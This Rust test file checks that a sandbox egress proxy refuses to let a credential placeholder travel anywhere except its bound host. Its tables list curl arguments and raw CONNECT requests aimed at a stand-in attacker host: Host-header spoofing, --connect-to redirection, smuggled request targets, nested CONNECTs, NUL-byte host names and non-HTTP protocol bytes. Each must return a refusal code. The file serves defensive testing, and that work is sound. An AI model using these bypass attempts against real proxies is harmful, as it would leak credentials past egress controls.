//! What the catalogue refuses of a sandbox is refused of a caller, with the same codes; and what only a proxy can be asked.

use miosa_selftest::stand::{ALLOWED, ATTACKER, BOUND};

use crate::world::World;

fn connect(target: &str, fields: &str) -> String {
    format!("CONNECT {target} HTTP/1.1\r\n{fields}\r\n")
}

/// What curl is told besides the credential, the code it must meet, and the defence that alone holds it.
const MISUSES: &[(&[&str], &str, Option<&str>)] = &[
    (
        &["https://collector.attacker.example/mcp"],
        "EGRESS_PLACEHOLDER_NOT_BOUND",
        Some("host-match"),
    ),
    (
        &["https://api.refero.design/other"],
        "EGRESS_PATH_NOT_BOUND",
        Some("path-match"),
    ),
    (
        &["-X", "PUT", "https://api.refero.design/mcp"],
        "EGRESS_METHOD_NOT_BOUND",
        Some("method-match"),
    ),
    (
        &["http://api.refero.design/mcp"],
        "EGRESS_CLEARTEXT_CREDENTIAL",
        Some("cleartext"),
    ),
    (
        &["http://collector.attacker.example/x"],
        "EGRESS_CLEARTEXT_CREDENTIAL",
        None,
    ),
    (
        &[
            "-H",
            "host: collector.attacker.example",
            "https://api.refero.design/mcp",
        ],
        "EGRESS_AUTHORITY_MISMATCH",
        Some("authority"),
    ),
    // Row 5: CONNECT names the attacker, TLS the bound host.
    (
        &[
            "--connect-to",
            "api.refero.design:443:collector.attacker.example:443",
            "https://api.refero.design/mcp",
        ],
        "EGRESS_SERVER_NAME_MISMATCH",
        Some("server-name"),
    ),
    // Row 6: inside, another address altogether.
    (
        &[
            "--http1.1",
            "--request-target",
            "https://collector.attacker.example/x",
            "https://api.refero.design/mcp",
        ],
        "EGRESS_AUTHORITY_MISMATCH",
        None,
    ),
    (
        &["https://unlisted.example/"],
        "EGRESS_HOST_NOT_ALLOWED",
        None,
    ),
    (
        &["http://unlisted.example/"],
        "EGRESS_HOST_NOT_ALLOWED",
        None,
    ),
];

#[tokio::test(flavor = "multi_thread")]
async fn a_placeholder_goes_nowhere_but_to_its_binding() {
    let world = World::start().await;
    let bearer = world.bearer("agent");
    for (arguments, code, _) in MISUSES {
        let before = world.stand.log.count();
        let text = world.curl(&[&["-H", &bearer], *arguments].concat());
        assert!(text.contains(code), "{arguments:?}: {text}");
        assert!(
            !text.contains("miosa sandbox"),
            "it names a command there is not: {text}"
        );
        assert!(world.seen_since(before).is_empty(), "{arguments:?}");
    }
    // Without a credential, a plain request passes where a rule lets it, one on a connection.
    let text = world.curl(&[&format!("http://{ATTACKER}/x")]);
    assert!(
        text.contains("200 OK") && text.contains("connection: close"),
        "{text}"
    );
    let received = String::from_utf8_lossy(&world.stand.attacker.received()).into_owned();
    assert!(!received.contains("miosa-tok-"), "{received}");
    world.finish();
}

/// A test that passes without the defence it is about tests nothing.
#[tokio::test(flavor = "multi_thread")]
async fn each_misuse_notices_that_its_defence_is_off() {
    for (arguments, code, defence) in MISUSES {
        let Some(defence) = defence else { continue };
        let world = World::without(defence).await;
        let text = world.curl(&[&["-H", &world.bearer("agent")], *arguments].concat());
        assert!(!text.contains(code), "{defence}: {text}");
    }
}

#[tokio::test(flavor = "multi_thread")]
#[expect(clippy::too_many_lines, reason = "a table of cases")]
async fn what_is_said_to_the_proxy_itself_has_one_meaning_or_none() {
    let world = World::start().await;
    let placeholder = world.env("agent")["REFERO_MCP_TOKEN"].clone();
    let at_bound = format!("{BOUND}:443");
    let in_proxy = format!("proxy-authorization: Bearer {placeholder}\r\n");
    for (said, code) in [
        (
            connect(&format!("x@{at_bound}"), ""),
            "EGRESS_MALFORMED_REQUEST",
        ),
        (
            connect(&format!("{BOUND}\0.{ATTACKER}:443"), ""),
            "EGRESS_MALFORMED_REQUEST",
        ),
        (connect(BOUND, ""), "EGRESS_MALFORMED_REQUEST"),
        (connect("192.0.2.66:443", ""), "EGRESS_ADDRESS_LITERAL"),
        (
            connect("[::ffff:192.0.2.66]:443", ""),
            "EGRESS_ADDRESS_LITERAL",
        ),
        (connect("localhost:443", ""), "EGRESS_UPSTREAM_NOT_FOUND"),
        (
            connect(&at_bound, &in_proxy),
            "EGRESS_PLACEHOLDER_MISPLACED",
        ),
        (
            connect(&at_bound, &format!("host: {ATTACKER}\r\n")),
            "EGRESS_AUTHORITY_MISMATCH",
        ),
        (
            connect(&at_bound, "content-length: 3\r\n"),
            "EGRESS_MALFORMED_REQUEST",
        ),
        (
            connect(&at_bound, &"x: y\r\n".repeat(200)),
            "EGRESS_HEAD_TOO_LARGE",
        ),
        (
            format!("GET / HTTP/1.1\r\nhost: {BOUND}\r\n\r\n"),
            "EGRESS_PROTOCOL_NOT_ALLOWED",
        ),
        (
            format!("GET https://{BOUND}/mcp HTTP/1.1\r\nhost: {BOUND}\r\n\r\n"),
            "EGRESS_PROTOCOL_NOT_ALLOWED",
        ),
        ("\x05\x01\0".to_owned(), "EGRESS_PROTOCOL_NOT_ALLOWED"),
        (
            "\x16\x03\x01\0\x05hello".to_owned(),
            "EGRESS_PROTOCOL_NOT_ALLOWED",
        ),
    ] {
        let answer = world.say(said.as_bytes());
        assert!(
            answer.starts_with("HTTP/1.1 4") || answer.starts_with("HTTP/1.1 5"),
            "{said:?}: {answer}"
        );
        assert!(
            answer.contains(&format!("x-miosa-refusal: {code}\r\n")),
            "{said:?}: {answer}"
        );
        assert!(
            answer.contains(&format!("\"code\":\"{code}\"")),
            "{said:?}: {answer}"
        );
    }
    assert_eq!(world.stand.log.count(), 0, "no provider was reached");
    assert!(world.stand.attacker.received().is_empty());
    let audit = world.finish();
    for code in [
        "MALFORMED_REQUEST",
        "ADDRESS_LITERAL",
        "PLACEHOLDER_MISPLACED",
        "PROTOCOL_NOT_ALLOWED",
    ] {
        assert!(
            audit.contains(&format!("\"EGRESS_{code}\"")),
            "{code}: {audit}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn rows_024_026_no_credential_for_the_proxy_and_no_connect_in_a_connect() {
    let world = World::start().await;
    let bearer_of_proxy = format!("proxy-{}", world.bearer("agent"));
    // Row 26: a CONNECT in a CONNECT, and no TLS in one.
    for (inside, code) in [
        (
            connect(&format!("{BOUND}:443"), &format!("host: {BOUND}\r\n")),
            "EGRESS_AUTHORITY_MISMATCH",
        ),
        (
            connect(&format!("{ALLOWED}:80"), &format!("host: {ALLOWED}\r\n")),
            "EGRESS_METHOD_NOT_BOUND",
        ),
        ("SSH-2.0-x\r\n".to_owned(), "EGRESS_PROTOCOL_NOT_ALLOWED"),
    ] {
        let answer = world.say(
            &[connect(&format!("{ALLOWED}:80"), ""), inside.clone()]
                .concat()
                .into_bytes(),
        );
        assert!(
            answer.starts_with("HTTP/1.1 200 Connection established\r\n\r\nHTTP/1.1 4"),
            "{inside}: {answer}"
        );
        assert!(answer.contains(code), "{inside}: {answer}");
    }
    let text = world.client(
        "agent",
        &[
            "curl",
            "--silent",
            "--verbose",
            "--proxy-header",
            &bearer_of_proxy,
            "--max-time",
            "20",
            "https://api.refero.design/mcp",
        ],
    );
    assert!(text.contains("EGRESS_PLACEHOLDER_MISPLACED"), "{text}");
    assert_eq!(world.stand.log.count(), 0, "no provider was reached");
    world.finish();
}
